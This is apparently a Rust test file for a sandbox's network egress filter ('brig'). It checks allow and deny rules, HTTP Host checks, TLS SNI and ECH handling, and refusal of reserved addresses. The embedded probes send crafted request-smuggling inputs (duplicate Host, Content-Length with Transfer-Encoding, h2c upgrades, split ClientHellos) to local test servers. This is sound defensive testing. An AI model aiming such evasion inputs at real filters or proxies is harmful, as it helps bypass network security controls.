    args.extend(["--rootfs".into(), root.to_str().unwrap().into()]);
    let script = format!(
        "wget -q -O- http://{WEB}:{http}/hello; echo fetched=$?; \
         wget -q -O- http://unlisted.test:{http}/hello 2>&1; echo unlisted=$?; \
         grep -c '^sandbox:' /etc/passwd; touch /etc/resolv.conf 2>/dev/null || echo read-only",
        http = servers.http
    );
    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
    let out = assert_success(&done.output);
    assert_eq!(
        out.trim_end(),
        format!(
            "hello\nfetched=0\nwget: bad address 'unlisted.test:{}'\nunlisted=1\n1\nread-only",
            servers.http
        ),
        "{}",
        describe(&done.output)
    );
    allowed_bytes(&verdict, WEB, servers.http);
}

/// A prepared root without /etc cannot get the jail's resolv.conf: refused at plan time,
/// naming the option, the path and the fix.
#[test]
fn a_prepared_root_without_etc_is_refused_with_a_network() {
    let dir = TempDir::new("net-rootfs-noetc");
    for sub in ["proc", "dev", "tmp", "home/sandbox"] {
        std::fs::create_dir_all(dir.path().join(sub)).unwrap();
    }
    for command in ["run", "check"] {
        let output = run(
            Mode::Root,
            &[
                command,
                "--rootfs",
                dir.str(),
                "--allow-net",
                "a.test",
                "--",
                "true",
            ],
        );
        assert_one_line_error(
            &output,
            &[
                &format!("--rootfs {}", dir.str()),
                "/etc does not exist",
                "create the directory /etc",
            ],
        );
    }
}

#[test]
fn bad_rules_are_refused_before_anything_starts() {
    let cases: &[(&[&str], &[&str])] = &[
        (
            &["--allow-net", "pypi.org:99999"],
            &["--allow-net pypi.org:99999", "1 to 65535"],
        ),
        (
            &["--allow-net", "pypi.*.org"],
            &["--allow-net pypi.*.org", "wildcard"],
        ),
        (&["--allow-net", "::1"], &["--allow-net ::1", "brackets"]),
        (
            &["--net", "host", "--allow-net", "pypi.org"],
            &["--allow-net pypi.org", "--net host"],
        ),
        (
            &["--net", "none", "--allow-net", "pypi.org"],
            &["--allow-net pypi.org", "--net none"],
        ),
        (
            &["--allow-net", "a.test", "--add-host", "db"],
            &["--add-host db", "NAME:IP"],
        ),
        (
            &["--add-host", "db:10.0.0.1"],
            &["--add-host db:10.0.0.1", "--net filtered"],
        ),
        (
            &["--allow-net", "a.test", "--net-connections", "0"],
            &["--net-connections"],
        ),
        (
            &["--allow-net", "tcp://db.test"],
            &["--allow-net tcp://db.test", "names its port"],
        ),
        (
            &["--allow-net", "https://web.test"],
            &["--allow-net https://web.test", "not a rule scheme"],
        ),
        (
            &["--deny-net", "10.0.0.1/8"],
            &["--deny-net 10.0.0.1/8", "did you mean 10.0.0.0/8"],
        ),
        (
            &["--deny-net", "tcp://db.test:5432"],
            &["--deny-net tcp://db.test:5432", "takes no scheme"],
        ),
        (
            &["--net", "host", "--deny-net", "10.0.0.0/8"],
            &["--deny-net 10.0.0.0/8", "--net host"],
        ),
    ];
    for (flags, needles) in cases {
        let mut args = vec!["run"];
        args.extend_from_slice(flags);
        args.extend(["--", "true"]);
        let output = run(Mode::Root, &args);
        assert_one_line_error(&output, needles);
    }
}

#[test]
fn check_shows_the_resolved_rules() {
    let dir = TempDir::new("net-config");
    let config = dir.file(
        "net.yaml",
        "allow-net: [pypi.org:443, '*.github.com', 'tcp://db.test:5432', 'ech://cloudflare-ech.com:443']\nadd-host: ['api.test:10.1.2.3']\nnet-bytes: 10M\ncommand: [true]\n",
    );
    let output = run(Mode::Root, &["check", "--config", config.to_str().unwrap()]);
    let out = assert_success(&output);
    for needle in [
        "net: filtered",
        "- pypi.org:443",
        "- \"*.github.com (any port)\"",
        "- tcp://db.test:5432",
        "- ech://cloudflare-ech.com:443",
        "- api.test:10.1.2.3",
        "max-bytes: 10485760",
    ] {
        assert!(out.contains(needle), "{needle}: {out}");
    }
    // A deny list is shown beside the allow rules that win over it.
    let config = dir.file(
        "deny.yaml",
        "deny-net: ['10.0.0.0/8', '*.internal.test:443']\nallow-net: [10.1.2.3]\ncommand: [true]\n",
    );
    let output = run(Mode::Root, &["check", "--config", config.to_str().unwrap()]);
    let out = assert_success(&output);
    for needle in [
        "net: filtered",
        "deny-net:",
        "- 10.0.0.0/8 (any port)",
        "- \"*.internal.test:443\"",
        "- 10.1.2.3 (any port)",
    ] {
        assert!(out.contains(needle), "{needle}: {out}");
    }
}

// ---------------------------------------------------------------------------------------
// Fail closed (issue 24): every request judged, strict parsing, the whole ClientHello,
// the host's own addresses

/// Python in the jail: for each case (NAME HEX), opens a connection to HOST PORT, sends the
/// bytes, and prints `NAME answered` if any bytes came back, `NAME nothing` if the
/// connection ended without any (reset or EOF). `--keepalive`: sends a first request,
/// reads its whole response, then sends the case's bytes on the same connection.
const RAW_PROBE: &str = r#"
import socket, sys
host, port, first = sys.argv[1], int(sys.argv[2]), bytes.fromhex(sys.argv[3])
for case in sys.argv[4:]:
    name, data = case.split(" ")
    s = socket.create_connection((host, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if first:
        s.sendall(first)
        got = b""
        while b"\r\n\r\n" not in got or len(got.split(b"\r\n\r\n", 1)[1]) < int(got.split(b"Content-Length: ")[1].split(b"\r\n")[0]):
            got += s.recv(65536)
    for part in data.split("|"):
        s.sendall(bytes.fromhex(part))
    try:
        answer = s.recv(65536)
    except OSError:
        answer = b""
    print(name, "answered" if answer else "nothing", flush=True)
    s.close()
"#;

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Runs RAW_PROBE against `host:port` with `cases` (name, pieces sent one by one),
/// under `args`, and returns its output lines and the verdict.
fn raw_probe(
    mode: Mode,
    args: &[String],
    host: &str,
    port: u16,
    first: &[u8],
    cases: &[(&str, Vec<Vec<u8>>)],
) -> (Vec<String>, Value) {
    let mut argv = vec![
        python(),
        "-c".into(),
        RAW_PROBE.into(),
        host.into(),
        port.to_string(),
        hex(first),
    ];
    for (name, pieces) in cases {
        let pieces: Vec<String> = pieces.iter().map(|piece| hex(piece)).collect();
        argv.push(format!("{name} {}", pieces.join("|")));
    }
    let (done, verdict) = filtered(mode, args, &strs_of(&argv));
    let lines = stdout(&done.output).lines().map(String::from).collect();
    (lines, verdict)
}

fn request_to(port: u16, host: &str) -> Vec<u8> {
    format!("GET /host HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n").into_bytes()
}

fn a_second_request_naming_another_host_is_refused(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let servers = Servers::start();
    let http = servers.http;
    let first = request_to(http, WEB);
    let cases = [
        ("other", vec![request_to(http, "other.test")]),
        ("allowed", vec![request_to(http, WEB)]),
    ];
    let (lines, verdict) = raw_probe(mode, &web_rules(&[http]), WEB, http, &first, &cases);
    assert_eq!(lines, ["other nothing", "allowed answered"], "{verdict}");
    let reason = refusal(&verdict, WEB, http);
    assert!(
        reason.contains("HTTP Host names other.test, which is not on the list")
            && reason.contains("--allow-net other.test:"),
        "{reason}"
    );
    let hosts: Vec<String> = servers.log();
    assert!(
        hosts.iter().all(|line| !line.contains("other.test")),
        "{hosts:?}"
    );
    assert_eq!(
        hosts.len(),
        3,
        "two first requests and the allowed second: {hosts:?}"
    );
    // Control: with the check off (`--net host`), the second request reaches the server.
    let control = vec!["--net".to_string(), "host".into()];
    let (lines, _) = raw_probe(mode, &control, "127.0.0.1", http, &first, &cases[..1]);
    assert_eq!(lines, ["other answered"]);
    assert!(servers.log().iter().any(|line| line.contains("other.test")));
}

fn requests_a_strict_server_would_refuse_or_read_two_ways_are_refused(mode: Mode) {
    if !require_tun(mode) || !require_program("curl", "apt install curl") {
        return;
    }
    let servers = Servers::start();
    let http = servers.http;
    let host = format!("{WEB}:{http}");
    let head = |lines: &str| format!("GET /host HTTP/1.1\r\n{lines}\r\n").into_bytes();
    let cases = [
        (
            "duplicate-host",
            vec![head(&format!("Host: {host}\r\nHost: other.test\r\n"))],
        ),
        (
            "absolute-form",
            vec![
                format!("GET http://other.test/host HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes(),
            ],
        ),
        (
            "obs-fold",
            vec![head(&format!("Host: {host}\r\nX-A: 1\r\n folded\r\n"))],
        ),
        (
            "bare-lf",
            vec![format!("GET /host HTTP/1.1\nHost: {host}\n\n").into_bytes()],
        ),
        (
            "cl-and-te",
            vec![head(&format!(
                "Host: {host}\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n"
            ))],
        ),
        (
            "empty-line-first",
            vec![b"\r\nGET /host HTTP/1.1\r\nHost: other.test\r\n\r\n".to_vec()],
        ),
        (
            "h2c-preface",
            vec![b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec()],
        ),
        (
            "h2c-upgrade",
            vec![head(&format!(
                "Host: {host}\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n"
            ))],
        ),
        // The head split over segments, the second naming the host: still one head.
        (
            "split-head",
            vec![
                b"GET /host HTTP/1.1\r\nHo".to_vec(),
                format!("st: {host}\r\n\r\n").into_bytes(),
            ],
        ),
    ];
    let (lines, verdict) = raw_probe(mode, &web_rules(&[http]), WEB, http, b"", &cases);
    let mut expected: Vec<String> = cases[..cases.len() - 1]
        .iter()
        .map(|(name, _)| format!("{name} nothing"))
        .collect();
    expected.push("split-head answered".into());
    assert_eq!(lines, expected, "{verdict}");
    let log = servers.log();
    assert_eq!(
        log.len(),
        1,
        "only the split head reaches the server: {log:?}"
    );
    let reasons = verdict.to_string();
    for needle in [
        "more than one Host",
        "target names other.test",
        "obsolete line folding",
        "bare LF",
        "both Content-Length and Transfer-Encoding",
        "empty line",
        "h2c",
    ] {
        assert!(reasons.contains(needle), "{needle}: {reasons}");
    }
    // curl's own h2c (prior knowledge) is refused the same way.
    let script =
        format!("curl -sS --http2-prior-knowledge http://{WEB}:{http}/host; echo \" exit=$?\"");
    let (done, verdict) = filtered(mode, &web_rules(&[http]), &["sh", "-c", &script]);
    assert!(
        !stdout(&done.output).contains(&host),
        "{}",
        describe(&done.output)
    );
    assert!(refusal(&verdict, WEB, http).contains("h2c"), "{verdict}");
    // The stderr summary carries the same reason, and what to do instead.
    let summary = stderr(&done.output);
    assert!(
        summary.contains("brig: network: ")
            && summary.contains("HTTP/2 without TLS (h2c)")
            && summary.contains("use HTTP/1.1 or HTTPS"),
        "{summary}"
    );
    // Control: without brig's check the server is reached and answers every one.
    let control = vec!["--net".to_string(), "host".into()];
    let (lines, _) = raw_probe(mode, &control, "127.0.0.1", http, b"", &cases);
    // Python's server drops a request after an empty line (others, nginx among them,
    // skip the line and answer the request; the unit tests cover it).
    let unanswered: Vec<&String> = lines
        .iter()
        .filter(|line| !line.ends_with(" answered"))
        .collect();
    assert_eq!(unanswered, ["empty-line-first nothing"], "{lines:?}");
}

/// Python in the jail: makes a ClientHello for each server name in argv (`-` for none)
/// with the ssl module, re-cuts it into TLS records of RECORD bytes sent as separate
/// segments, and prints `NAME answered` if the server sent anything back. A name ending
/// in `+ech` gets an `encrypted_client_hello` extension (0xfe0d, as a client offering ECH
/// sends it outside) added to its ClientHello.
const SPLIT_HELLO_PROBE: &str = r#"
import socket, ssl, sys, time

def with_ech(message):
    # ClientHello: type(1) length(3) version(2) random(32) session_id cipher_suites
    # compression extensions; append one extension and fix the lengths.
    at = 4 + 2 + 32
    at += 1 + message[at]
    at += 2 + int.from_bytes(message[at:at + 2], "big")
    at += 1 + message[at]
    extensions = message[at + 2:]
    ech = (0xfe0d).to_bytes(2, "big") + (40).to_bytes(2, "big") + bytes([0]) + bytes(39)
    extensions += ech
    body = message[4:at] + len(extensions).to_bytes(2, "big") + extensions
    return bytes([1]) + len(body).to_bytes(3, "big") + body

host, port, record = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
for label in sys.argv[4:]:
    name = label.removesuffix("+ech")
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=None if name == "-" else name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    message = hello[5:5 + int.from_bytes(hello[3:5], "big")]
    if label.endswith("+ech"):
        message = with_ech(message)
    s = socket.create_connection((host, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for at in range(0, len(message), record):
        part = message[at:at + record]
        s.sendall(b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part[:3])
        s.sendall(part[3:])
    try:
        answer = s.recv(65536)
    except OSError:
        answer = b""
    print(label, "answered" if answer else "nothing", flush=True)
    s.close()
"#;

fn client_hellos_are_judged_whole_and_need_one_allowed_name(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let servers = Servers::start();
    let tls = servers.tls;
    let probe = |args: &[String], host: &str| {
        let argv = [
            python(),
            "-c".into(),
            SPLIT_HELLO_PROBE.into(),
            host.into(),
            tls.to_string(),
            "60".into(),
            "other.test".into(),
            "-".into(),
            WEB.into(),
            format!("{WEB}+ech"),
        ];
        let (done, verdict) = filtered(mode, args, &strs_of(&argv));
        (stdout(&done.output), verdict)
    };
    let (out, verdict) = probe(&web_rules(&[tls]), WEB);
    assert_eq!(
        out.lines().collect::<Vec<_>>(),
        [
            "other.test nothing",
            "- nothing",
            "web.test answered",
            "web.test+ech nothing"
        ],
        "{verdict}"
    );
    let reasons = verdict.to_string();
    assert!(reasons.contains("TLS SNI names other.test"), "{reasons}");
    assert!(reasons.contains("without a server name (SNI)"), "{reasons}");
    assert!(
        reasons.contains("is encrypted (ECH)") && reasons.contains("ech://web.test:"),
        "{reasons}"
    );
    // An ech:// rule for the outer name lets the encrypted ClientHello through.
    let mut args = web_rules(&[]);
    args.extend(["--allow-net".into(), format!("ech://{WEB}:{tls}")]);
    let (out, verdict) = probe(&args, WEB);
    assert_eq!(
        out.lines().collect::<Vec<_>>(),
        [
            "other.test nothing",
            "- nothing",
            "web.test answered",
            "web.test+ech answered"
        ],
        "{verdict}"
    );
    // Control: without brig the server answers all three.
    let control = vec!["--net".to_string(), "host".into()];
    let (out, _) = probe(&control, "127.0.0.1");
    assert_eq!(
        out.lines().collect::<Vec<_>>(),
        [
            "other.test answered",
            "- answered",
            "web.test answered",
            "web.test+ech answered"
        ]
    );
}

/// A public address on the host's loopback for the test's duration (`ip addr add`, root):
/// one of the host's own addresses that is in no denied range.
struct ExtraAddress(Ipv4Addr);

impl ExtraAddress {
    fn add(address: Ipv4Addr) -> ExtraAddress {
        let ip = |verb: &str| {
            Command::new("ip")
                .args(["addr", verb, &format!("{address}/32"), "dev", "lo"])
                .output()
                .expect("run ip")
        };
        let _ = ip("del");
        let added = ip("add");
        assert!(added.status.success(), "{}", describe(&added));
        ExtraAddress(address)
    }
}

impl Drop for ExtraAddress {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["addr", "del", &format!("{}/32", self.0), "dev", "lo"])
            .output();
    }
}

/// Python in the jail: says it is ready, waits for the test's go, then runs CONNECT_PROBE.
const AFTER_GO: &str = r#"
import os, time
open("/sync/ready", "w").close()
for _ in range(600):
    if os.path.exists("/sync/go"):
        break
    time.sleep(0.05)
"#;

fn a_name_resolving_to_the_hosts_own_or_a_reserved_address_is_refused(mode: Mode) {
    if !require_tun(mode) || !require_root() || !require_program("ip", "apt install iproute2") {
        return;
    }
    let stub = stub_address(3, mode);
    let servers = Servers::start_with_dns(IpAddr::V4(stub), 53);
    let listener = Listener::start();
    // Not in any special-purpose range; one per mode, as the modes run in parallel.
    let own = Ipv4Addr::new(203, 0, 114, if mode == Mode::Root { 1 } else { 2 });
    let own_name = format!("{}.ip.test", own.to_string().replace('.', "-"));
    let documentation = "192-0-2-1.ip.test";
    let targets = [
        format!("{own_name} {}", listener.port),
        format!("{documentation} {}", listener.port),
    ];
    let sync = TempDir::new("sync").writable_by_all();
    let probe = format!("{AFTER_GO}\n{CONNECT_PROBE}");
    let mut args = vec![
        "--allow-net".to_string(),
        format!("*.ip.test:{}", listener.port),
        "--bind".into(),
        format!("{}:/sync", sync.str()),
        "--".into(),
        python(),
        "-c".into(),
        probe.clone(),
    ];
    args.extend(targets.iter().cloned());
    // The address appears while the jail runs: brig reads the host's addresses again
    // when the kernel reports the change.
    let (command, verdict_path, _dir) = host_resolver_command(mode, stub, &args);
    let mut command = command;
    command.stdout(Stdio::piped()).stderr(Stdio::piped());
    let running = Running::spawn(command);
    assert!(wait_until(Duration::from_secs(30), || sync
        .path()
        .join("ready")
        .exists()));
    let extra = ExtraAddress::add(own);
    std::fs::write(sync.path().join("go"), "").unwrap();
    let output = running.wait();
    let verdict = common::limits::read_verdict(&verdict_path, &output);
    assert_eq!(
        stdout(&output).lines().collect::<Vec<_>>(),
        [
            format!("{} ECONNREFUSED", targets[0]),
            format!("{} ECONNREFUSED", targets[1])
        ],
        "{}",
        describe(&output)
    );
    let reason = refusal(&verdict, &own_name, listener.port);
    assert!(reason.contains("host-own"), "{reason}");
    let reason = refusal(&verdict, documentation, listener.port);
    assert!(reason.contains("TEST-NET-1"), "{reason}");
    assert_eq!(listener.accepted(), 0);
    assert!(servers.dns_queries().contains(&own_name));
    // Control: an IP rule naming the address lets the same name through, to the listener.
    let mut args = vec![
        "--allow-net".to_string(),
        format!("*.ip.test:{}", listener.port),
        "--allow-net".into(),
        format!("{own}:{}", listener.port),
        "--".into(),
    ];
    args.extend(connect_probe(&targets[..1]));
    let (output, _) = with_host_resolver(mode, stub, &args);
    assert_eq!(
        stdout(&output).trim(),
        format!("{} ok", targets[0]),
        "{}",
        describe(&output)
    );
    assert_eq!(listener.accepted(), 1);
    drop(extra);
}

/// An echo server on `address`:443 (root), counting the bytes it got.
fn echo_on_443(address: Ipv4Addr) -> std::sync::Arc<std::sync::atomic::AtomicUsize> {
    use std::io::{Read, Write};
    let listener = TcpListener::bind((address, 443)).expect("bind port 443");
    let got = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = got.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut buffer = [0u8; 4096];
            while let Ok(count @ 1..) = stream.read(&mut buffer) {
                counter.fetch_add(count, std::sync::atomic::Ordering::SeqCst);
                let _ = stream.write_all(&buffer[..count]);
            }
        }
    });
    got
}

fn bytes_neither_http_nor_tls_on_port_443_need_a_tcp_rule(mode: Mode) {
    if !require_tun(mode) || !require_root() {
        return;
    }
    // One loopback address per mode, as the modes run in parallel.
    let address = Ipv4Addr::new(127, 44, 3, if mode == Mode::Root { 1 } else { 2 });
    let got = echo_on_443(address);
    let pin = vec!["--add-host".to_string(), format!("db.test:{address}")];
    let cases = [("ssh", vec![b"SSH-2.0-OpenSSH_9.2\r\n".to_vec()])];
    let mut args = pin.clone();
    args.extend(["--allow-net".into(), "db.test:443".into()]);
    let (lines, verdict) = raw_probe(mode, &args, "db.test", 443, b"", &cases);
    assert_eq!(lines, ["ssh nothing"], "{verdict}");
    let reason = refusal(&verdict, "db.test", 443);
    assert!(
        reason.contains("neither HTTP nor TLS") && reason.contains("tcp://"),
        "{reason}"
    );
    assert_eq!(got.load(std::sync::atomic::Ordering::SeqCst), 0);
    // Control: a tcp:// rule lets the same bytes through, unread.
    let mut args = pin;
    args.extend(["--allow-net".into(), "tcp://db.test:443".into()]);
    let (lines, verdict) = raw_probe(mode, &args, "db.test", 443, b"", &cases);
    assert_eq!(lines, ["ssh answered"], "{verdict}");
    assert!(got.load(std::sync::atomic::Ordering::SeqCst) > 0);
}

/// openssl s_client with each SNI variant: another name, none, the allowed one.
fn openssl_sni_variants_are_judged(mode: Mode) {
    if !require_tun(mode) || !require_program("openssl", "apt install openssl") {
        return;
    }
    let servers = Servers::start();
    let tls = servers.tls;
    let script = |host: &str| {
        format!(
            "for sni in '-servername other.test' -noservername '-servername {WEB}'; do \
             openssl s_client -connect {host}:{tls} $sni </dev/null >/dev/null 2>&1; echo \"$sni exit=$?\"; done"
        )
    };
    let (done, verdict) = filtered(mode, &web_rules(&[tls]), &["sh", "-c", &script(WEB)]);
    assert_eq!(
        stdout(&done.output).lines().collect::<Vec<_>>(),
        [
            "-servername other.test exit=1",
            "-noservername exit=1",
            "-servername web.test exit=0"
        ],
        "{verdict}"
    );
    let reasons = verdict.to_string();
    assert!(reasons.contains("TLS SNI names other.test"), "{reasons}");
    assert!(reasons.contains("without a server name (SNI)"), "{reasons}");
    // Control: without brig's check every variant completes its handshake.
    let control = vec!["--net".to_string(), "host".into()];
    let (done, _) = filtered(mode, &control, &["sh", "-c", &script("127.0.0.1")]);
    assert_eq!(
        stdout(&done.output).lines().collect::<Vec<_>>(),
        [
            "-servername other.test exit=0",
            "-noservername exit=0",
            "-servername web.test exit=0"
        ]
    );
}

/// `--deny-net`: what a deny rule names is refused (ECONNREFUSED, by address or by name),
/// the rest goes out, brig's own refusals (private ranges) stay; an `--allow-net` rule
/// naming a denied address wins over the deny rule (E2B's allowOut over denyOut).
fn a_deny_rule_refuses_what_it_names_and_lets_the_rest_out(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    // One listener on every address: 127.0.0.2 stands for the denied server, 127.0.0.3
    // for another (both the host's loopback, reached through pinned names).
    let listener = Listener::start();
    let port = listener.port;
    let targets: Vec<String> = [
        format!("denied.test {port}"),
        format!("open.test {port}"),
        format!("x.blocked.test {port}"),
        "10.1.2.3 80".into(),
    ]
    .into();
    let deny_args = |allow: &[&str]| -> Vec<String> {
        let mut args: Vec<String> = [
            "--add-host",
            "denied.test:127.0.0.2",
            "--add-host",
            "open.test:127.0.0.3",
            "--add-host",
            "x.blocked.test:127.0.0.3",
            "--deny-net",
            "127.0.0.2/32",
            "--deny-net",
            "*.blocked.test",
        ]
        .map(String::from)
        .into();
        for rule in allow {
            args.extend(["--allow-net".to_string(), rule.to_string()]);
        }
        args
    };
    let (done, verdict) = filtered(mode, &deny_args(&[]), &strs_of(&connect_probe(&targets)));
    assert_eq!(
        stdout(&done.output).lines().collect::<Vec<_>>(),
        [
            format!("denied.test {port} ECONNREFUSED"),
            format!("open.test {port} ok"),
            format!("x.blocked.test {port} ECONNREFUSED"),
            "10.1.2.3 80 ECONNREFUSED".to_string(),
        ],
        "{}",
        describe(&done.output)
    );
    // Only open.test's connection reached the listener.
    assert_eq!(listener.accepted(), 1);
    assert!(
        refusal(&verdict, "denied.test", port).contains("--deny-net"),
        "{verdict}"
    );
    assert!(
        refusal(&verdict, "x.blocked.test", port).contains("--deny-net *.blocked.test"),
        "{verdict}"
    );
    assert!(
        refusal(&verdict, "10.1.2.3", 80).contains("private"),
        "{verdict}"
    );
    // Allow wins: the same run with the denied address allowed reaches it.
    let (done, _) = filtered(
        mode,
        &deny_args(&["127.0.0.2"]),
        &strs_of(&connect_probe(&targets[..1])),
    );
    assert_eq!(
        assert_success(&done.output).trim(),
        format!("denied.test {port} ok")
    );
    assert_eq!(listener.accepted(), 2);
}

/// With a deny list, a name no rule names is resolved on the host (here by the test's DNS
/// stub) and reached; one that resolves into a denied block is refused after the lookup
/// (ECONNREFUSED: the address is judged, not only the name); a denied name is NXDOMAIN
/// from brig itself, and the host's resolver never hears of it.
fn a_deny_list_resolves_other_names_on_the_host_and_checks_their_addresses(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let stub = stub_address(4, mode);
    let servers = Servers::start_with_dns(IpAddr::V4(stub), 53);
    let http = servers.http;
    // The stub answers 127.0.0.1 (10.9.0.5 for a name starting 10-9-0-5).
    let probe = format!(
        "import socket, urllib.request, urllib.error\n\
         def get(name):\n\
         \x20   try: return urllib.request.urlopen(f'http://{{name}}:{http}/hello', timeout=10).read().decode().strip()\n\
         \x20   except urllib.error.URLError as e: return type(e.reason).__name__\n\
         print('anything.test', get('anything.test'))\n\
         print('10-9-0-5.denied.test', get('10-9-0-5.denied.test'))\n\
         try: socket.getaddrinfo('x.blocked.test', 80); print('x.blocked.test resolved')\n\
         except socket.gaierror as e: print('x.blocked.test', e.args[0] == socket.EAI_NONAME)\n"
    );
    let args: Vec<String> = vec![
        "--deny-net".into(),
        "10.9.0.0/16".into(),
        "--deny-net".into(),
        "*.blocked.test".into(),
        // The stub's 127.0.0.1 is the host's loopback, which brig reaches only when an
        // IP rule names it.
        "--allow-net".into(),
        format!("127.0.0.1:{http}"),
        "--".into(),
        python(),
        "-c".into(),
        probe,
    ];
    let (output, verdict) = with_host_resolver(mode, stub, &args);
    assert_eq!(
        assert_success(&output).lines().collect::<Vec<_>>(),
        [
            "anything.test hello",
            "10-9-0-5.denied.test ConnectionRefusedError",
            "x.blocked.test True",
        ],
        "{}",
        describe(&output)
    );
    let asked = servers.dns_queries();
    assert!(
        asked.iter().any(|name| name == "anything.test")
            && asked.iter().any(|name| name == "10-9-0-5.denied.test"),
        "names no rule names are resolved on the host: {asked:?}"
    );
    assert!(
        asked.iter().all(|name| !name.contains("blocked")),
        "a denied name reached the host's resolver: {asked:?}"
    );
    assert!(
        refusal(&verdict, "10-9-0-5.denied.test", http).contains("--deny-net"),
        "{verdict}"
    );
}
